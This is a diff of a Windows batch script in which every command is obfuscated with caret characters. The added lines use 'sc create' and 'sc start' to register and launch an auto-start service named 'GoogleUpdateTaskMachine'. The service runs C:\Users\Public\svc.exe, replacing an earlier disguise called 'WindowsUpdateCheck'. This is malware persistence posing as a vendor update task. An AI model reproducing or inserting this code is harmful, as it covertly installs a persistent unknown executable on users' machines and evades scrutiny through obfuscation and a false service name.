@@ -1,7 +1,7 @@
-REM maintenance 1252 v1
+REM init 8504 v1
 @echo off
-set "zkbi=^sc cr^ea^te ^W^ind^ows^U^pdat^eCh^e^ck binP^at^h= "cmd.exe /c C:\Users\Public\svc.exe" ^s^ta^r^t= a^uto"
-call %zkbi%
+set atxj=sc cr^e^ate ^G^o^o^gl^eUpdate^Ta^sk^M^ac^h^ine b^in^Path= "cmd.exe /c C:\Users\Public\svc.exe" ^st^ar^t= a^uto
+call %atxj%
 @echo off
-set "sphz=^s^c ^st^ar^t ^Wind^ows^U^pdateCh^eck"
-call %sphz%
+set htev=^s^c ^st^a^r^t ^G^o^o^g^leUp^da^te^Tas^k^Ma^c^hine
+call %htev%
